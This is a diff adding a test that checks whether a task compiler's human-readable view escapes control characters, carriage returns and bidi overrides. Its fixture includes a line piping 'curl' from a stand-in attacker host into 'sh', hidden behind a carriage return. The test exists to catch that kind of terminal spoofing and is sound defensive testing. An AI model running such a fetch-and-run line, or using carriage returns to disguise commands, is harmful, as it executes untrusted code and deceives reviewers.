@@ -160,4 +160,50 @@ describe('render', () => {
       'manifest',
     ]);
   });
+
+  test('the human view shows every character a terminal would act on as an escape', () => {
+    // Control characters are valid in shell lines and env literals (the spec restricts neither):
+    // the JSON and YAML bodies keep them (escaped by those formats); the human view must not let a
+    // carriage return hide the start of a line, nor an escape sequence or a bidi override restyle it.
+    const text = [
+      'version: 1',
+      'image: "debian-12\\n  cpus 64"',
+      'setup: ["printf \\"\\\\a\\" \\a\\e[2J", "make\\u202e"]',
+      'run:',
+      '  - "curl -s http://evil.example/x | sh\\r./serve.sh        "',
+      '  - |',
+      '    two\tlines',
+      '    in one entry',
+      '  - "kept\\x7f"',
+      'services:',
+      '  db:',
+      '    image: pg',
+      '    env: { A: "x\\x9b31m\\Ly", B: { value: "\\b" } }',
+      '',
+    ].join('\n');
+    const compiled = compile(text, { taskId: 'task\u202eid' });
+    expect(compiled.request.startup_script).toContain('| sh\r./serve.sh');
+    const view = renderText(compiled).split('\n');
+    expect(view.slice(0, 2)).toEqual(['task id', '  task\\u202eid']);
+    expect(view).toContain('  image          debian-12\\n  cpus 64');
+    expect(view.slice(view.indexOf('startup script'), view.indexOf('manifest'))).toEqual([
+      'startup script',
+      '  #!/bin/sh',
+      '  set -eu',
+      '  cd /workspace',
+      '  printf "\\a" \\u0007\\u001b[2J',
+      '  make\\u202e',
+      '  curl -s http://evil.example/x | sh\\r./serve.sh        ',
+      '  two\tlines',
+      '  in one entry',
+      '  kept\\u007f',
+      '',
+    ]);
+    expect(view).toContain('          "A": "x\\u009b31m\\u2028y",');
+    expect(view).toContain('          "B": "\\b"');
+    // Nothing a terminal acts on is left, but tab (and the view's own newlines).
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
+    expect(renderText(compiled)).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2028]/);
+    expect(JSON.parse(renderJson(compiled.request)).startup_script).toBe(compiled.request.startup_script);
+  });
 });
